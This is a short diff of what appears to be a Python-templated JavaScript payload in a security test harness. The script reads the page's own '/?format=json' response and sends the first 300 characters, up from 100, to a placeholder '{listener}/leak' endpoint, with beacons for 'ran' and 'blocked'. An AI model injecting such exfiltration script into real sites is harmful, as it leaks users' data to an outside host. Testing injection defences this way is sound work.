@@ -81,7 +81,7 @@ var out = document.getElementById("result");
 if (out) {{ out.textContent = "script ran"; }}
 fetch("{listener}/ran", {{mode: "no-cors"}});
 fetch("/?format=json").then(function (r) {{ return r.text(); }}).then(
-  function (text) {{ fetch("{listener}/leak?" + encodeURIComponent(text.slice(0, 100)),
+  function (text) {{ fetch("{listener}/leak?" + encodeURIComponent(text.slice(0, 300)),
                             {{mode: "no-cors"}}); }},
   function () {{ fetch("{listener}/blocked", {{mode: "no-cors"}}); }});
 """
